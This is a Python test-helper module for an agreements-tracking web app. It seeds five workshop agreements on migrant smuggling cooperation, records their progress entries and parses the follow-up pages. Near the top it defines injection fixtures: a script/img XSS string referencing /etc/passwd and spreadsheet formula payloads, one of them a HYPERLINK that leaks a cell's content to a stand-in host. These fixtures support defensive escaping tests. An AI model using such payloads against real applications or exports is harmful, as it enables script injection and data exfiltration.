"""Helpers of the follow-up tests: agreements with responsible parties, and progress entries,
all written through the services (as the console and the staff page write them)."""

from __future__ import annotations

import datetime as dt

from agreements import services
from agreements.models import Agreement, AgreementFollowUp
from participants.models import Organisation

HOSTILE = "<script>alert(1)</script><img src=file:///etc/passwd>"
FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Clic")',
    "+1",
    "-2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def make_agreement(
    session,
    *,
    by,
    text_es: str = "Compartir información sobre rutas de tráfico ilícito de migrantes.",
    text_en: str = "",
    countries: tuple[str, ...] = (),
    organisations: tuple[str, ...] = (),
    due_date: dt.date | None = None,
    term: str = Agreement.Term.SHORT,
    status: str = Agreement.Status.ADOPTED,
) -> Agreement:
    """An agreement of ``session`` recorded by ``by``; ``countries`` are ISO codes,
    ``organisations`` are ``Organisation.code``s."""
    return services.agreement_create(
        session=session,
        by=by,
        text_es=text_es,
        text_en=text_en,
        countries=countries,
        organisations=list(Organisation.objects.filter(code__in=organisations)),
        due_date=due_date,
        term=term,
        status=status,
    )


def add_entry(
    agreement: Agreement, *, by, status: str, date: dt.date, note: str = "Avance."
) -> AgreementFollowUp:
    return services.followup_record(agreement=agreement, by=by, status=status, date=date, note=note)


FAR_FUTURE = dt.date(2099, 6, 30)


def scenario(demo, people) -> dict[int, Agreement]:
    """Five agreements of the seeded workshop, by number:

    1. session 1, adopted, MX SV GT + OIM UNODC, due 2022-12-31; in progress 2022-08-01,
       done 2022-11-15 → done (past due, not overdue);
    2. session 1, adopted, SV + RROCM, medium term, due 2099-06-30; no entry → pending;
    3. session 2, adopted, MX, due 2023-03-01; in progress 2022-09-10 → in progress, overdue;
    4. session 2, withdrawn, MX, due 2023-01-01 → pending, not overdue (withdrawn);
    5. session 2, proposed, GT, no due date → pending.
    """
    staff = people["staff"]
    s1, s2 = demo.sessions.get(number=1), demo.sessions.get(number=2)
    a1 = make_agreement(
        s1,
        by=people["moderator"],
        text_es="Compartir información sobre rutas de tráfico ilícito de migrantes.",
        text_en="Share information on migrant smuggling routes.",
        countries=("MX", "SV", "GT"),
        organisations=("OIM", "UNODC"),
        due_date=dt.date(2022, 12, 31),
    )
    a2 = make_agreement(
        s1,
        by=people["moderator"],
        text_es="Crear un directorio regional de puntos de contacto.",
        countries=("SV",),
        organisations=("RROCM",),
        due_date=FAR_FUTURE,
        term=Agreement.Term.MEDIUM,
    )
    a3 = make_agreement(
        s2,
        by=staff,
        text_es="Capacitar a funcionarios de fronteras.",
        text_en="Train border officials.",
        countries=("MX",),
        due_date=dt.date(2023, 3, 1),
    )
    a4 = make_agreement(
        s2,
        by=staff,
        text_es="Propuesta que se retiró.",
        countries=("MX",),
        due_date=dt.date(2023, 1, 1),
        status=Agreement.Status.WITHDRAWN,
    )
    a5 = make_agreement(
        s2,
        by=staff,
        text_es="Estudiar un protocolo común.",
        countries=("GT",),
        status=Agreement.Status.PROPOSED,
    )
    add_entry(a1, by=staff, status="in_progress", date=dt.date(2022, 8, 1), note="Primera reunión.")
    add_entry(a1, by=staff, status="done", date=dt.date(2022, 11, 15), note="Informe enviado.")
    add_entry(
        a3, by=staff, status="in_progress", date=dt.date(2022, 9, 10), note="Curso en preparación."
    )
    agreements = {a.number: a for a in (a1, a2, a3, a4, a5)}
    assert sorted(agreements) == [1, 2, 3, 4, 5]
    for agreement in agreements.values():
        agreement.refresh_from_db()
    return agreements


def listed_numbers(html: str) -> list[int]:
    """The agreement numbers a follow-up page lists, in order."""
    import re

    return [int(n) for n in re.findall(r'<article [^>]*id="agreement-(\d+)"', html)]


def article(html: str, number: int) -> str:
    """The ``<article>`` of agreement ``number`` on a follow-up page."""
    import re

    match = re.search(rf'<article [^>]*id="agreement-{number}".*?</article>', html, flags=re.DOTALL)
    assert match is not None, f"agreement {number} is not on the page"
    return match.group(0)
